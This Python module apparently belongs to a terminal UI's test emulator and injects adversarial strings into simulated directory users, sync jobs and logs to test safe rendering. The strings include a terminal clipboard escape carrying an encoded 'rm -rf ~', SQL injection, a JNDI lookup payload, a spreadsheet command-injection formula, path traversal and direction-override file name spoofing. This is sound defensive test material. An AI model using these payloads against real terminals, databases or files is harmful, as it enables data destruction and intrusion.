"""Texts that a stranger may have put into a directory to trouble whoever looks at it."""

import json
from collections.abc import Callable, Iterable, Iterator
from dataclasses import replace
from itertools import cycle, islice

from xtsync_tui.emulator.job import Job
from xtsync_tui.emulator.secrets import SETTINGS
from xtsync_tui.emulator.state import Document, Tenant, World
from xtsync_tui.engine.default_schema import constant_source
from xtsync_tui.engine.expressions.graph_source import to_source
from xtsync_tui.engine.expressions.syntax import Attribute, Call, Text
from xtsync_tui.engine.rules import user_mapping
from xtsync_tui.engine.scoping import from_portal

TEXTS = (
    "[/b] unbalanced [markup",
    "[@click=app.quit]press me[/]",
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]52;c;cm0gLXJmIH4=\x07",
    "\x1b]8;;https://example.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\u202egnp.exe\u202c",
    "\u2066isolated\u2069 \u200flrm",
    "zero\u200b\u200c\u200dwidth\ufeff",
    "two\r\nlines\tand a tab",
    "\x00\x07\x08\x7f\x9b31m",
    "👩\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈 e\u0301\u0327",
    "漢字ひらがな한글",
    "שלום مرحبا",
    "x" * 10_000,
    '"; DROP TABLE users; --',
    "${jndi:ldap://example.invalid} {{7*7}} %s %n",
    "=cmd|' /C calc'!A0",
    "../../../etc/passwd",
    " ",
)
"""Markup, terminal sequences, direction overrides, zero-width and control characters, emoji, long text."""

_PEOPLE = (
    *("displayName", "givenName", "surname", "department", "jobTitle", "companyName", "employeeId"),
    *("country", "city", "streetAddress", "postalCode", "state", "officeLocation", "mobilePhone"),
    "preferredLanguage",
)
LITERAL = 1_000
"""Characters of a text in an expression, which may have 10,000 in all."""

_GROUPS = ("displayName", "description")
_APPLICATIONS = ("displayName", "appDisplayName", "description", "notes")
_ASSIGNMENTS = ("principalDisplayName", "resourceDisplayName")
_ERRORS = ("reason", "recommendedAction")


def poison(world: World, first: int = 0) -> None:
    """Put these texts into every text of the tenants that has no syntax, and into what they lived through.

    Another ``first`` of the texts puts others into each. The sentences of logs and errors keep their
    beginning, by which they are recognised.
    """
    texts = islice(cycle(TEXTS), first, None)
    for tenant in world.tenants.values():
        _directory(tenant, texts)
        _synchronization(tenant, texts)


def _directory(tenant: Tenant, texts: Iterator[str]) -> None:
    """Poison the names of the tenant, its people, groups, contacts and applications."""
    # Its own name is kept in front: a person still has to tell the two apart.
    tenant.name = f"{tenant.name} {next(texts)}"
    for user in (*tenant.users.values(), *tenant.deleted_users.values()):
        _fill(user, _PEOPLE, texts)
        user["businessPhones"] = [next(texts)]
    for group in tenant.groups.values():
        _fill(group, _GROUPS, texts)
    for contact in tenant.contacts.values():
        _fill(contact, ("displayName", "companyName"), texts)
    for application in (*tenant.applications.values(), *tenant.service_principals.values()):
        _fill(application, _APPLICATIONS, texts)


def _synchronization(tenant: Tenant, texts: Iterator[str]) -> None:
    """Poison who is assigned, partners, jobs and logs."""
    for assignment in tenant.assignments.values():
        _fill(assignment, _ASSIGNMENTS, texts)
    for settings in tenant.identity_synchronizations.values():
        _fill(settings, ("displayName",), texts)
    for jobs in tenant.jobs.values():
        for job in jobs.values():
            _job(job, texts)
    tenant.provisioning_log.rewrite(_each(_provisioned, texts))
    tenant.audit_log.rewrite(_each(_audited, texts))


def _fill(document: Document, names: Iterable[str], texts: Iterator[str]) -> None:
    for name in names:
        document[name] = next(texts)


def _add(document: Document, names: Iterable[str], texts: Iterator[str]) -> None:
    """Put a text behind each of these values that is there."""
    for name in names:
        if document.get(name):
            document[name] = f"{document[name]} {next(texts)}"


def _job(job: Job, texts: Iterator[str]) -> None:
    """Poison mail address, filters, mappings and errors of a job; everybody stays in scope of the filters."""
    if SETTINGS in job.secrets:
        settings = json.loads(job.secrets[SETTINGS])
        job.secrets[SETTINGS] = json.dumps({**settings, "Recipients": next(texts)})
    _, users = user_mapping(job.schema)
    users["name"] = f"{users['name']} {next(texts)}"
    clauses = [
        {"attribute": "department", "operator": "NOT EQUALS", "value": next(texts)},
        {"attribute": "jobTitle", "operator": "EQUALS", "value": next(texts)},
    ]
    everybody = [{"attribute": "userPrincipalName", "operator": "IS NOT NULL", "value": None}]
    users["scope"]["groups"] = from_portal(
        [{"title": next(texts), "clauses": clauses}, {"title": next(texts), "clauses": everybody}]
    )
    for row in users["attributeMappings"]:
        match row["targetAttributeName"]:
            case "department":
                row["source"] = constant_source(next(texts))
            case "jobTitle":
                row["source"] = to_source(
                    Call("Join", (Text(next(texts)[:LITERAL]), Attribute("jobTitle"), Attribute("city")))
                )
            case "city" | "country":
                row["defaultValue"] = next(texts)
    quarantine = job.state.quarantine
    if quarantine and quarantine.error:
        error = replace(quarantine.error, message=f"{quarantine.error.message} {next(texts)}")
        job.state.quarantine = replace(quarantine, error=error)
    for last in (job.last, job.last_succeeded, job.last_exported):
        _add((last or {}).get("error") or {}, ("message",), texts)


def _each(
    change: Callable[[Document, Iterator[str]], None], texts: Iterator[str]
) -> Callable[[Document], Document]:
    def changed(row: Document) -> Document:
        change(row, texts)
        return row

    return changed


def _provisioned(row: Document, texts: Iterator[str]) -> None:
    """Poison a row of the provisioning log."""
    row["servicePrincipal"]["displayName"] = next(texts)
    row["initiatedBy"]["displayName"] = next(texts)
    row["sourceIdentity"]["displayName"] = row["sourceIdentity"]["details"]["DisplayName"] = next(texts)
    row["targetIdentity"]["displayName"] = next(texts)
    _add(row["provisioningStatusInfo"]["errorInformation"] or {}, _ERRORS, texts)
    for step in row["provisioningSteps"]:
        _add(step, ("description",), texts)
        step["details"][next(texts)] = next(texts)
    for value in row["modifiedProperties"]:
        _add(value, ("oldValue", "newValue"), texts)


def _audited(row: Document, texts: Iterator[str]) -> None:
    """Poison a row of an audit log."""
    _add(row, ("resultReason",), texts)
    for actor in row["initiatedBy"].values():
        if actor:
            _fill(actor, ("displayName",), texts)
    for target in row["targetResources"]:
        _fill(target, ("displayName",), texts)
        target["modifiedProperties"] = [
            {"displayName": next(texts), "oldValue": next(texts), "newValue": next(texts)}
        ]
    row["additionalDetails"].append({"key": next(texts), "value": next(texts)})
    for detail in row["additionalDetails"]:
        _add(detail, ("value",), texts)
